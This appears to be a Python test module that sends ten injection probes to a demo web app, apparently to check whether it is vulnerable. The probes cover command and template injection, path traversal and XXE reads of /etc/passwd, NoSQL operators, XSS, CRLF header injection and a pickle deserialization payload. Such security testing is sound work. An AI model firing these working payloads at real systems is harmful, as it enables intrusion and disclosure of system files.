"""Attacks with text that becomes a command, a template, a name of a file, a condition, markup or a header."""

import base64
import time
from collections.abc import Callable, Mapping
from typing import Final
from urllib.parse import quote

from tests.demo.visitor import Shown, Visitor


def command_print(visitor: Visitor) -> Shown:
    got = visitor.call("GET", f"/api/v2/articles/sleep-first-steps-1/print?paper={quote('a4|echo $((4001*5003))')}")
    return Shown("20017003" in got.text, got.status)


def command_contact(visitor: Visitor) -> Shown:
    started = time.monotonic()
    body = {"email": "kim@mail.example", "message": "x'|sleep 0.4|echo '"}
    got = visitor.call("POST", "/api/v2/contact", body)
    return Shown(time.monotonic() - started > 0.4, got.status)


def template_card(visitor: Visitor) -> Shown:
    got = visitor.call("POST", "/shop/cards/preview", {"to": "Kim", "message": "{{4001*5003}}"})
    return Shown("20017003" in got.text, got.status)


def path_worksheet(visitor: Visitor) -> Shown:
    got = visitor.call("GET", "/api/v2/resources/file?name=../../etc/passwd", token=visitor.log_in())
    return Shown("root:x:0:0" in got.text, got.status)


def nosql_coupon(visitor: Visitor) -> Shown:
    got = visitor.call("POST", "/shop/coupons/check", {"code": {"$ne": "x"}})
    return Shown("percent" in got.text, got.status)


def markup_find(visitor: Visitor) -> Shown:
    got = visitor.call("GET", "/shop/find?q=<img src=x onerror=alert(1)>")
    return Shown("<img" in got.text, got.status)


def header_coach(visitor: Visitor) -> Shown:
    got = visitor.call("GET", "/api/v2/coach?lang=en%0d%0aSet-Cookie:%20a=b")
    return Shown(got.headers.get("set-cookie") == "a=b", got.status)


def xml_import(visitor: Visitor) -> Shown:
    declared = '<!DOCTYPE b [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    document = f"{declared}<b><topic>Sleep &a;</topic></b>"
    got = visitor.call("POST", "/api/v2/bookings/import", xml=document, token=visitor.log_in())
    return Shown("root:x:0:0" in got.text, got.status)


def lookup_colleague(visitor: Visitor) -> Shown:
    assert visitor.call("GET", "/api/v2/colleagues/lina").status == 200
    got = visitor.call("GET", "/api/v2/colleagues/l%5C69na")
    return Shown("Lina Marlow" in got.text, got.status)


def object_cart(visitor: Visitor) -> Shown:
    saved = base64.b64encode(b"\x80\x03coperator\nmul\nM\xa1\x0fM\x8b\x13\x86R.").decode()
    got = visitor.call("POST", "/shop/cart/preview", {"saved": saved})
    return Shown("20017003" in got.text, got.status)


ATTACKS: Final[Mapping[str, Callable[[Visitor], Shown]]] = {
    "command-injection-print": command_print,
    "command-injection-contact": command_contact,
    "template-injection-card": template_card,
    "path-traversal-worksheet": path_worksheet,
    "nosql-injection-coupon": nosql_coupon,
    "markup-injection-find": markup_find,
    "header-injection-coach": header_coach,
    "xml-entities-import": xml_import,
    "lookup-injection-colleague": lookup_colleague,
    "object-injection-cart": object_cart,
}
